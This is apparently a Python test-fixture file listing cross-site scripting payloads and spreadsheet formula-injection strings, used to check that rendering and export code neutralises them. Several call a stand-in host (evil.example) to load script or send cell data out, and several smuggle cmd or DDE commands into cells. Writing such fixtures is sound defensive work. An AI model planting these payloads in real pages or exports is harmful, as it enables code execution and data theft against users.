"""Texts that attack whoever shows or exports them: each is to be shown as the text it is, and to do nothing.

``SCRIPTS`` try to run code in a page, ``FORMULAS`` in a spreadsheet. Every one sets or calls something named ``pwned``, so that a browser
test can see whether any ran.
"""

SCRIPTS: tuple[str, ...] = (
    "<script>window.pwned=1</script>",
    "<ScRiPt src=https://evil.example/pwned.js></sCrIpT>",
    "<img src=x onerror=window.pwned=1>",
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned&#61;1</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=window.pwned=1>'>",
    '"><script>window.pwned=1</script>',
    "' autofocus onfocus=window.pwned=1 x='",
    '" onmouseover="window.pwned=1" x="',
    "` onfocus=window.pwned=1 autofocus `",
    "</title><script>window.pwned=1</script>",
    "</style><script>window.pwned=1</script>",
    "</textarea><script>window.pwned=1</script>",
    "</script><script>window.pwned=1</script>",
    "--><script>window.pwned=1</script><!--",
    "]]><script>window.pwned=1</script>",
    "javascript:window.pwned=1",
    "JaVaScRiPt&colon;window.pwned=1//",
    "<a href='javascript:window.pwned=1'>click</a>",
    "[click](javascript:window.pwned=1) ![x](data:text/html,<script>window.pwned=1</script>)",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<details open ontoggle=window.pwned=1><body onload=window.pwned=1>",
    "<div hx-get=/pwned hx-trigger=load hx-on:load=window.pwned=1>{{ 7*7 }}{% raw %}${window.pwned=1}</div>",
    "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=javascript:window.pwned=1'>",
)

FORMULAS: tuple[str, ...] = (
    "=cmd|' /C pwned'!A0",
    '=HYPERLINK("https://evil.example/?pwned="&A1,"open")',
    '=WEBSERVICE("https://evil.example/pwned")',
    '=IMPORTXML("https://evil.example/pwned","//a")',
    "+1+cmd|' /C pwned'!A0",
    "-2+3+cmd|' /C pwned'!A0",
    "@SUM(1+1)*cmd|' /C pwned'!A0",
    "\t=cmd|' /C pwned'!A0",
    "\r=cmd|' /C pwned'!A0",
    "\n=cmd|' /C pwned'!A0",
    "＝cmd|' /C pwned'!A0",
    '  =DDE("cmd";"/C pwned";"x")',
)
